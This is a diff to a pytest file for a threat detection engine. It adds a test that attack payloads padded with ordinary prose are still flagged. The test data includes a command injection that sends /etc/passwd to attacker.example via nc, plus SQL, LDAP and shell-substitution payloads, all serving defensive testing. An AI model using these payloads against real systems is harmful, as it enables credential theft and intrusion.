@@ -264,6 +264,27 @@ def test_prose_discount_keeps_attacks(engine: DetectionEngine, value: str) -> No
     assert engine.detect(value)["is_threat"]
 
 
+PADDING = " and then some ordinary words follow here, as a note to the team would read"
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "; cat /etc/passwd | nc attacker.example 4444",
+        "*)(uid=*))(|(uid=*",
+        "| id",
+        "' OR 1=1 --",
+        "$(id)",
+    ],
+)
+def test_sentences_padded_onto_a_breakout_do_not_make_it_prose(
+    engine: DetectionEngine, attack: str
+) -> None:
+    """An attacker can append ordinary words to any payload; a value that opens by breaking out
+    of its host syntax is judged as an attack, not as a sentence quoting one."""
+    assert engine.detect(attack + PADDING)["is_threat"]
+
+
 def _hostile_runs(n: int) -> list[str]:
     return ["' " + " " * n + "x", "'" + ")" * n, "'\"" * n, "{{" * n + "}}", "{% " + "x " * n,
             "{{ a }} " * (n // 7), "<" * n, "<script " + "a" * n, "\\" * n, "../" * (n // 3),
